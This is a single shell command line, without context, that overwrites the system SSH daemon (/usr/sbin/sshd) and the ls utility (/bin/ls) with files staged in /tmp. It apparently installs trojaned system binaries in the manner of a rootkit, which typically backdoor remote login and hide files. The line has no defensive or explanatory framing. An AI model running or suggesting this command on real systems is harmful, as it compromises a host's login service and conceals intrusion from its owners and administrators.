cp /tmp/sshd /usr/sbin/sshd && cp -p /usr/sbin/sshd /usr/sbin/sshd.new; mv -f /tmp/ls /bin/ls
